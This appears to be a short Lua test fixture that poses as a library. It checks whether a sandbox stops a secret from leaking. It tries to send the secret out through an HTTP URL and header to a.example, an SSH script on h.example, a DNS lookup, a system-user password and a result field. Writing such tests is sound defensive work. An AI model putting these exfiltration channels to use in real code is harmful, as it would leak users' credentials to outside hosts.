return recipe { name = "user", version = "1.0.0", summary = "A library", exports = { use = function(give)
    local secret = give()
    for name, try in pairs{
        http = function() return http.get("https://a.example/" .. secret, { planned = {} }) end, ["http header"] = function() return http.get("https://a.example/", { headers = { x = secret }, planned = {} }) end,
        ssh = function() return ssh.run{ host = "h.example", script = secret, planned = {} } end, dns = function() return dns.addresses(secret .. ".example") end,
        password = function() return sp.create_sysuser{ serverid = sp.find_server{ name = "www1" }.id, name = "someone", password = secret } end,
        result = function() return sp.result{ x = secret } end } do
        if pcall(try) then print("ESCAPED: it used a secret for " .. name) end
    end
end } }
